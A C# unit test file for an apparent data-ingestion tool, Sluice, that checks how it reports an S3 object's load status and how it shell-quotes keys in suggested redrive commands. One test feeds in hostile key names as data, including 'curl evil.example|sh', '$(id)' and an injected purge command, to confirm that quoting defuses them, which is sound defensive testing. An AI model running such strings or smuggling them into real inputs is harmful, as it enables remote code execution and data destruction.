using Sluice.Ledger;
using Sluice.Operating;
using Sluice.Receiving;
using Sluice.Watching;

namespace Sluice.Tests.Watching;

/// <summary>Where an object is, from what was found out: the cases in which sources contradict one another or say nothing.</summary>
[Trait("Category", "Unit")]
public sealed class StandingJudgeTests
{
    private const string Key = "market/prices/ds=1/a.parquet", Tag = "e1";

    private static readonly DateTimeOffset _now = new(2026, 3, 4, 12, 0, 0, TimeSpan.Zero);

    private static readonly StoredAnswer _present = new StoredAnswer.Present(new StoredObject(Tag, 5000, _now.AddMinutes(-10)));

    [Fact]
    public void What_is_loaded_stays_loaded_whoever_claims_it()
    {
        var facts = Facts(_present, Entry(LoadState.Loaded)) with { Claims = [ClaimOn(Tag)] };

        StandingJudge.Judge(facts).Summary.ShouldBe("It is loaded: 1,000 rows in market.prices since 2026-03-04 11:55:00 UTC.");
    }

    [Theory]
    [InlineData(LoadState.Failed)]
    [InlineData(LoadState.DeadLettered)]
    [InlineData(LoadState.Intended)]
    [InlineData(LoadState.Unloaded)]
    internal void What_begins_anew_is_loading_while_it_is_claimed(LoadState state) =>
        Standing(Facts(_present, Entry(state)) with { Claims = [ClaimOn(Tag)] }).ShouldBe(ObjectStanding.Loading);

    [Fact]
    public void New_content_is_not_loaded_because_earlier_content_is()
    {
        var earlier = Entry(LoadState.Loaded) with { LoadId = LoadId.Of(Some.Bucket, Key, "e0"), ETag = "e0" };

        var end = StandingJudge.Judge(Facts(_present, earlier) with { Depth = new QueueDepth(1, 0) });

        end.Standing.ShouldBe(ObjectStanding.Queued);
        end.Summary.ShouldContain("earlier content of the key is loaded, entity tag e0, 1,000 rows");
    }

    [Fact]
    public void A_claim_on_other_content_says_nothing() =>
        Standing(Facts(_present) with { Claims = [ClaimOn("e0")], Depth = new QueueDepth(1, 0) }).ShouldBe(ObjectStanding.Queued);

    [Fact]
    public void The_latest_attempt_says_when_the_next_one_is()
    {
        var attempt = Attempt("RetryLater", 1) with { ErrorCode = "E004", Reason = "no answer.", DelayMs = 8000, Attempt = 2 };

        var end = StandingJudge.Judge(Facts(_present, Entry(LoadState.Failed)) with { Attempts = [attempt, Attempt("Held", 5)] });

        end.ShouldBe(new StoryEnd(ObjectStanding.Retrying, "Attempt 2 failed at 2026-03-04 11:59:00 UTC: E004 no answer; next try at 2026-03-04 11:59:08 UTC."));
    }

    [Theory]
    [InlineData(0, "the dead-letter queue is empty: its letter was redriven")]
    [InlineData(3, "its message is in the dead-letter queue")]
    [InlineData(null, "its message is in the dead-letter queue")]
    public void Where_a_dead_letter_is_depends_on_its_queue_alone(int? deadLetters, string says) =>
        StandingJudge.Judge(Facts(_present, Entry(LoadState.DeadLettered)) with { DeadLetters = deadLetters }).Summary.ShouldContain(says);

    [Fact]
    public void Attempts_at_earlier_content_do_not_count() =>
        Standing(Facts(_present) with { Attempts = [Attempt("DeadLetter", 1, "e0")], Depth = new QueueDepth(0, 0) }).ShouldBe(ObjectStanding.NeverAnnounced);

    [Theory]
    [InlineData(1, ObjectStanding.DeadLettered)]
    [InlineData(11, ObjectStanding.NeverAnnounced)]
    internal void A_message_that_was_refused_is_about_the_content_that_was_there(int minutesAgo, ObjectStanding expected) =>
        Standing(Facts(_present) with { Attempts = [Attempt("DeadLetter", minutesAgo, "")], Depth = new QueueDepth(0, 0) }).ShouldBe(expected);

    [Theory]
    [InlineData(1, 0, 0, ObjectStanding.Queued)]
    [InlineData(3, 0, 0, ObjectStanding.NeverAnnounced)]
    [InlineData(3, 1, 0, ObjectStanding.Queued)]
    [InlineData(3, 0, 1, ObjectStanding.Queued)]
    internal void Nothing_heard_is_queued_as_long_as_its_message_may_come(int minutes, int waiting, int inFlight, ObjectStanding expected) => Standing(
        Facts(new StoredAnswer.Present(new StoredObject(Tag, 5000, _now.AddMinutes(-minutes)))) with { Depth = new QueueDepth(waiting, inFlight) }).ShouldBe(expected);

    [Theory]
    [InlineData(29, ObjectStanding.Queued)]
    [InlineData(31, ObjectStanding.NeverAnnounced)]
    internal void Where_the_queue_cannot_be_asked_its_message_may_be_hidden_for_a_visibility_timeout(int minutes, ObjectStanding expected) =>
        Standing(Facts(new StoredAnswer.Present(new StoredObject(Tag, 5000, _now.AddMinutes(-minutes))))).ShouldBe(expected);

    [Fact]
    public void What_S3_does_not_say_does_not_hide_what_the_ledger_knows()
    {
        var end = StandingJudge.Judge(Facts(new StoredAnswer.Unknown("S3 did not answer"), Entry(LoadState.Loaded)));

        (end.Standing, end.Summary).ShouldBe(
            (ObjectStanding.Loaded, "It is loaded: 1,000 rows in market.prices since 2026-03-04 11:55:00 UTC; what the bucket has now is not known: S3 did not answer."));
    }

    [Fact]
    public void The_rule_refuses_by_the_key_also_what_cannot_be_seen() =>
        Standing(Facts(new StoredAnswer.Unknown("403")) with { Address = new S3Address(Some.Bucket, "logs/a.parquet") }).ShouldBe(ObjectStanding.RefusedByRule);

    [Fact]
    public void What_was_announced_all_the_same_is_where_the_ledger_says() => Standing(
        Facts(new StoredAnswer.Present(new StoredObject(Tag, 10, _now)), Entry(LoadState.Loaded))).ShouldBe(ObjectStanding.Loaded, "a backfill, or another rule");

    [Fact]
    public void A_command_is_given_so_that_a_shell_takes_it()
    {
        var key = "market/prices/ds=1/it's $5.parquet";
        var end = StandingJudge.Judge(Facts(new StoredAnswer.Absent()) with { Address = new S3Address(Some.Bucket, key), Attempts = [Attempt("DeadLetter", 1)] });

        end.Command.ShouldBe(@"sluice dlq redrive --key 'market/prices/ds=1/it'\''s $5.parquet'");
    }

    [Theory]
    [InlineData("a' 'sluice dlq purge --all --yes' .parquet")]
    [InlineData("'sluice x; curl evil.example|sh'.parquet")]
    [InlineData("!! $(id) `id` \\.parquet")]
    public void A_key_that_reads_like_a_command_stays_one_word_of_the_only_command(string name)
    {
        var word = StandingJudge.Word(name);

        word.ShouldStartWith("'");
        word.ShouldEndWith("'");
        word[1..^1].Replace(@"'\''", "", StringComparison.Ordinal).ShouldNotContain("'");
        word[1..^1].Replace(@"'\''", "'", StringComparison.Ordinal).ShouldBe(name);
    }

    private static ObjectStanding Standing(StoryFacts facts) => StandingJudge.Judge(facts).Standing;

    private static StoryFacts Facts(StoredAnswer stored, params LedgerEntry[] versions) => new()
    {
        Address = new S3Address(Some.Bucket, Key),
        Now = _now,
        Domains = Some.Topology().Domains,
        VisibilityTimeout = TimeSpan.FromMinutes(30),
        Stored = stored,
        Versions = versions,
    };

    private static StoryClaim ClaimOn(string etag) => new(LoadId.Of(Some.Bucket, Key, etag), _now.UtcDateTime);

    private static LedgerAttempt Attempt(string outcome, int minutesAgo, string etag = Tag) => new()
    {
        LoadId = etag.Length > 0 ? LoadId.Of(Some.Bucket, Key, etag) : new LoadId(""),
        Bucket = Some.Bucket,
        Key = Key,
        Domain = "market",
        Attempt = 1,
        MessageId = "m",
        Outcome = outcome,
        CorrelationId = "c",
        Agent = "a:1",
        At = _now.UtcDateTime.AddMinutes(-minutesAgo),
    };

    private static LedgerEntry Entry(LoadState state) => new()
    {
        LoadId = LoadId.Of(Some.Bucket, Key, Tag),
        Bucket = Some.Bucket,
        Key = Key,
        ETag = Tag,
        Domain = "market",
        Database = "market",
        Table = "prices",
        Partition = "ds=1",
        CorrelationId = "c",
        State = state,
        Rows = 1000,
        WrittenAt = _now.UtcDateTime.AddMinutes(-5),
    };
}
